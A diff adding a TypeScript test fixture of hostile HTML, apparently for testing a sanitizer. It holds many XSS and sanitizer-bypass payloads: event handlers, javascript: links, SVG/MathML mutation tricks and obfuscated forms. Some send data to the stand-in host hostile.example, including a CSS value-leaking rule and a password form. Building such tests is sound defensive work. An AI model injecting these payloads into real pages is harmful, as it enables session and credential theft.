@@ -1,0 +1,116 @@
+/** What each script does: it leaves a mark on the window and opens a dialog. */
+const js = 'window.canary=1;alert(1)'
+/** Where each request would go. */
+const host = 'https://hostile.example'
+
+/**
+ * What somebody could store who got hold of an administrator's session (D24). Each piece closes what it opens, so
+ * that all of them together make one text.
+ */
+export const hostileHtml: Record<string, string> = {
+  // Script
+  script: `<script>${js}</script>`,
+  'script from elsewhere': `<script src="${host}/a.js"></script>`,
+  'script module': `<script type="module">import '${host}/a.js'</script>`,
+  'script within script': `<scr<script>${js}</script>ipt>${js}</script>`,
+  'script in capitals, with a slash': `<SCRIPT/x>${js}</SCRIPT>`,
+  noscript: `<noscript><p title="</noscript><img src=x onerror=${js}>"></p></noscript>`,
+
+  // Event handlers
+  'image that fails': `<img src="x" onerror="${js}">`,
+  'handler after a slash': `<img/src/onerror=${js}>`,
+  'handler after a line feed': `<img src=x\nonerror\n=\n"${js}">`,
+  'handler behind a quote': `<img alt="a" title='"onerror="${js}"' src=x>`,
+  'pointer and focus': `<p onpointerover="${js}" onfocus="${js}" tabindex="1" autofocus>a</p>`,
+  'animation event': `<p onanimationstart="${js}" style="animation:spin 1s">a</p>`,
+  'details that open': `<details open ontoggle="${js}"><summary>a</summary></details>`,
+  'body that loads': `<body onload="${js}"><p>a</p></body>`,
+  marquee: `<marquee onstart="${js}">a</marquee>`,
+  'video and audio': `<video autoplay src="x" onerror="${js}"></video><audio src="x" onerror="${js}"></audio>`,
+
+  // Addresses
+  'javascript link': `<a href="javascript:${js}">a</a>`,
+  'javascript link in entities': `<a href="&#106;&#x61;vascript&colon;${js}">a</a>`,
+  'javascript link with blanks': `<a href=" &#1; java&Tab;script&NewLine;:${js}">a</a>`,
+  'javascript link in capitals': `<a href="JaVaScRiPt:${js}">a</a>`,
+  'vbscript link': '<a href="vbscript:msgbox(1)">a</a>',
+  'data link': `<a href="data:text/html,<script>${js}</script>">a</a>`,
+  'blob and file links': '<a href="blob:https://hostile.example/1">a</a><a href="file:///etc/passwd">b</a>',
+  'data image with script': `<img src="data:image/svg+xml,<svg onload='${js}' xmlns='http://www.w3.org/2000/svg'/>">`,
+  'image that is not https': '<img src="http://hostile.example/a.png"><img src="//hostile.example/b.png">',
+  'image in another attribute': `<img srcset="${host}/a.png 1x" sizes="100vw"><table background="${host}/b.png"></table>`,
+  'pinging link': `<a href="/en" ping="${host}/ping" download target="_blank" rel="opener">a</a>`,
+  'image map': `<img usemap="#m"><map name="m"><area href="javascript:${js}" coords="0,0,9,9"></map>`,
+
+  // Other namespaces, and what changes when it is parsed a second time
+  'svg script': `<svg><script>${js}</script></svg>`,
+  'svg handler': `<svg onload="${js}"><circle r="9"/></svg>`,
+  'svg animation': `<svg><a><animate attributeName="href" values="javascript:${js}"/><text>a</text></a></svg>`,
+  'svg use': `<svg><use xlink:href="data:image/svg+xml,<svg id='x' onload='${js}'/>#x"/></svg>`,
+  'svg foreign object': `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></iframe></foreignObject></svg>`,
+  'math link': `<math href="javascript:${js}"><mi xlink:href="javascript:${js}">a</mi></math>`,
+  'math, table and style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;"></style></mglyph></table></mtext></math>`,
+  'svg, style and comment': `<svg></p><style><a id="</style><img src=1 onerror=${js}>"></a></style></svg>`,
+  'conditional comment': `<!--[if true]><img src=x onerror=${js}><![endif]-->`,
+  'comment that ends early': `<!--><img src=x onerror=${js}>-->`,
+  'processing instruction': `<?xml-stylesheet href="javascript:${js}"?><![CDATA[<img src=x onerror=${js}>]]>`,
+  'text that looks like markup': `<textarea></textarea><img src=x onerror=${js}><xmp><p title="</xmp><img src=x onerror=${js}>"></p></xmp>`,
+  'noembed and noframes': `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed><noframes><p title="</noframes><img src=x onerror=${js}>"></p></noframes>`,
+
+  // Styles
+  'style element': `<style>@import '${host}/a.css';header{display:none}</style>`,
+  'style that tells secrets': `<style>input[value^="a"]{background:url(${host}/?a)}</style>`,
+  'style attribute': `<p style="background:url(${host}/a.png)">a</p>`,
+  'overlay by style':
+    '<div style="position:fixed;inset:0;z-index:9999"><a href="https://hostile.example">a</a></div>',
+  'overlay by our classes':
+    '<div class="fixed inset-0 z-50"><a class="absolute inset-0" href="/en">a</a></div>',
+  'overlay by popover': '<div popover id="p" open>a</div><dialog open>a</dialog>',
+  stylesheet: `<link rel="stylesheet" href="${host}/a.css"><link rel="prefetch" href="${host}/b">`,
+
+  // Documents within the document
+  iframe: `<iframe src="${host}"></iframe><iframe src="javascript:${js}"></iframe>`,
+  'iframe with its own document': `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
+  'object and embed': `<object data="javascript:${js}"></object><embed src="${host}/a.swf"><applet code="A"></applet>`,
+  portal: `<portal src="${host}"></portal><frameset><frame src="${host}"></frameset>`,
+
+  // The page itself
+  'base address': `<base href="${host}" target="_blank">`,
+  refresh: `<meta http-equiv="refresh" content="0;url=${host}">`,
+  'policy and cookie': `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="robots" content="noindex">`,
+  'second title': '<title>Hacked</title><h1>Hacked</h1>',
+  'form that asks for a password': `<form action="${host}"><input name="password" type="password" autofocus><button formaction="javascript:${js}">a</button></form>`,
+  'fields without a form':
+    '<input value="a"><select><option>a</option></select><textarea>a</textarea><label for="root">a</label>',
+  'button for another form': `<button form="x" command="show-modal" commandfor="p">a</button><input type="image" src="${host}/a.png">`,
+  template: `<template><img src=x onerror=${js}></template>`,
+  'shadow root': `<div><template shadowrootmode="open"><style>:host{position:fixed}</style><slot></slot></template></div>`,
+  'slot and part': '<slot name="a"></slot><p slot="a" part="b" is="x-y">a</p>',
+  'custom element': `<x-y onclick="${js}" style="position:fixed">a</x-y>`,
+  'names that hide functions':
+    '<img name="getElementById"><form name="body"></form><a id="cookie" name="querySelector">a</a>',
+  'ids of our own':
+    '<p id="root">a</p><p id="main">b</p><a id="__staticRouterHydrationData" href="/en">c</a>',
+  'keyboard and editing': '<p tabindex="1" accesskey="s" contenteditable="true" draggable="true">a</p>',
+  'live region and role': '<p role="alert" aria-live="assertive" aria-modal="true" data-state="open">a</p>',
+  'hidden from some': '<p hidden inert aria-hidden="true">a</p>',
+
+  // Size and signs
+  'deep nesting': `${'<div>'.repeat(2000)}<img src=x onerror=${js}>${'</div>'.repeat(2000)}`,
+  'many attributes': `<p ${Array.from({ length: 500 }, (_, n) => `onx${n}=1`).join(' ')} onclick="${js}">a</p>`,
+  'signs that are not there': `<img src=x on&#0;error=${js}><a href="java&#0;script:${js}">a</a>`,
+  'signs that look alike': `\uff1cscript\uff1e${js}\uff1c/script\uff1e <img src=x \u017fonerror=${js}>`,
+}
+
+/** What swallows everything after it, so that each has to be alone. */
+export const unclosedHtml: Record<string, string> = {
+  plaintext: `<p>a</p><plaintext><img src=x onerror=${js}>`,
+  comment: `<p>a</p><!-- <img src=x onerror=${js}>`,
+  attribute: `<p>a</p><img src=x onerror=${js} alt="`,
+  textarea: `<p>a</p><textarea><img src=x onerror=${js}>`,
+  title: `<p>a</p><title><img src=x onerror=${js}>`,
+  script: `<p>a</p><script>${js}`,
+  style: `<p>a</p><style>@import '${host}/a.css';`,
+  tag: `<p>a</p><img src=x onerror=${js} `,
+  'form in form': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}></style></mglyph></form>`,
+}
